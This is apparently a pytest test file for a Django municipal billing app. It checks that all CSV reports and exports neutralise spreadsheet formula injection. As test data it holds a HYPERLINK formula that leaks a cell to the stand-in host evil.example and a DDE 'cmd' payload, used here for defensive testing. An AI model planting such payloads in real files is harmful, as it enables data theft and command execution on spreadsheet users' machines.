"""Every CSV the product makes goes through one writer (``core.csvout``), which writes a cell a spreadsheet would run
as a formula as text: an owner named ``=HYPERLINK(...)`` reaches the treasurer's spreadsheet as words, in every
report and export; money columns, negative amounts included, stay numbers."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from accounts.models import Customer
from core.csvout import csv_writer, neutralised
from tests.reports.steps import billed_village, report

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")'


@pytest.mark.parametrize("cell", ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", FORMULA])
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(cell):
    assert neutralised(cell) == "'" + cell
    out = io.StringIO()
    csv_writer(out).writerow(["1-0001", cell])
    assert next(csv.reader(io.StringIO(out.getvalue())))[1] == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "1,234.56", "Main Street", "", 12, None])
def test_numbers_and_plain_text_are_written_as_they_are(cell):
    assert neutralised(cell) == cell


def test_no_csv_is_written_but_through_the_one_writer():
    """``csv.writer`` and ``csv.DictWriter`` appear only in the one writer and in PostgreSQL's COPY feed (data for
    the database, never a spreadsheet)."""
    allowed = {"core/csvout.py", "core/db.py"}
    found = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.split("/")[0] in (".venv", "tests", "scripts") or relative in allowed:
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text()):
            found.append(relative)
    assert found == []


@pytest.fixture
def formula_owner(mineola):
    accounts = billed_village()
    Customer.objects.filter(pk=accounts["1-0001"].owner_id).update(name=FORMULA)
    return accounts


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["aging", "delinquency", "relevy"])
def test_every_report_that_names_the_owner_writes_it_as_text(formula_owner, name):
    cells = _cells(report(name, "--format", "csv", "--date", "2026-05-10"))
    assert "'" + FORMULA in cells and FORMULA not in cells


@pytest.mark.django_db
def test_the_admin_accounts_export_writes_it_as_text(formula_owner):
    from django.contrib.auth import get_user_model

    clerk = get_user_model().objects.create_user("clara", is_staff=True, password="pw")
    clerk.groups.add(Group.objects.get(name="Clerk"))
    client = Client()
    client.force_login(clerk)
    response = client.get(reverse("admin:accounts_account_export_csv"))
    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'" + FORMULA in cells and FORMULA not in cells
